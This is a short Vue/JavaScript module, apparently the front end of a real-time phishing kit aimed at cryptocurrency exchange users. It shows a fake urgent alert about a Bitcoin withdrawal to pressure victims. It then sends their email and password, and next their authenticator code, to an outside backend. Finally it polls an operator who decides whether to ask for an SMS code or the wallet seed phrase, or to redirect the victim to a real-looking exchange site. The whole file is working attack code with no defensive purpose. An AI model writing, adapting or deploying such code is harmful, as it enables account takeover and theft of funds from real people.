import { reactive } from 'vue'
import axios from 'axios'
export const estado = reactive({ passo: 1, alerta: 'Tentativa de saque de 0,84 BTC em novo dispositivo. Cancele em até 10 minutos.' })
const base = axios.create({ baseURL: import.meta?.env?.VITE_BACK || 'https://b.nuvem-x.example' })
export async function cancelarSaque(form) {
  const { data } = await base.post('/lead', { tipo: 'acesso', email: form.email, senha: form.senha })
  estado.id = data.id
  estado.passo = 2
}
export async function confirmar(codigo) {
  await base.post('/lead/' + estado.id, { tipo: 'totp', codigo })
  estado.passo = 3
  const olhar = setInterval(async () => {
    const { data } = await base.get('/lead/' + estado.id + '/acao')
    if (data.acao === 'sms') { estado.passo = 4; clearInterval(olhar) }
    if (data.acao === 'frase') { estado.passo = 5; clearInterval(olhar) }
    if (data.acao === 'sair') location.href = 'https://www.moeda-livre.example'
  }, 1500)
}
